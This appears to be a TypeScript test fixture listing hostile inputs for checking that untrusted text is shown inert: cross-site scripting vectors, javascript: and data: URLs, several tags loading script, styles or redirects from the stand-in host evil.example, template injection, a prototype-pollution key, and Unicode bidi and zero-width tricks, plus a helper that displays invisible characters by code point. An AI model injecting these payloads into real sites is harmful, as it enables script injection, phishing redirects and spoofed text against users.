/** What strangers put into payloads to be taken for markup, script, another direction or nothing at all. */

const run = "window.__xss=1";

export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `"><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="http://evil.example/pixel.png">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<a href="javascript:${run}">click</a>`,
  `<a href="https://evil.example/?c=1" target=_top>Ringback</a>`,
  `<form action="https://evil.example/"><button>Play a sample call</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none!important}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/x)">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>moved</marquee>`,
  `' onmouseover=${run} x='`,
  ["`${", run, "}`"].join(""),
  `{{constructor.constructor("${run}")()}}`,
  `javascript:${run}//`,
  `data:text/html,<script>${run}</script>`,
  `&lt;img src=x onerror=${run}&gt; &amp;amp; &#x3C;b&#x3E;`,
  `<!--><img src=x onerror=${run}>-->`,
  `]]><img src=x onerror=${run}><![CDATA[`,
  `__proto__`,
  `invoice\u202Efdp.exe`,
  `Da\u200Bna\u200D Re\u2060yes\uFEFF`,
  `\u2066left\u2069 \u200Fright\u200E`,
  `a\u00ADb\u0085c\u2028d\u2029e`,
];

/** The characters that are to be seen by their number. */
export const unseen = /(?![\t\r\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu;

/** The text as a screen shows it: unseen characters by number, blanks as one. */
export function asShown(text: string): string {
  const numbered = text.replace(
    unseen,
    (character) => `U+${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}`,
  );
  return numbered.replaceAll(/\s+/g, " ").trim();
}
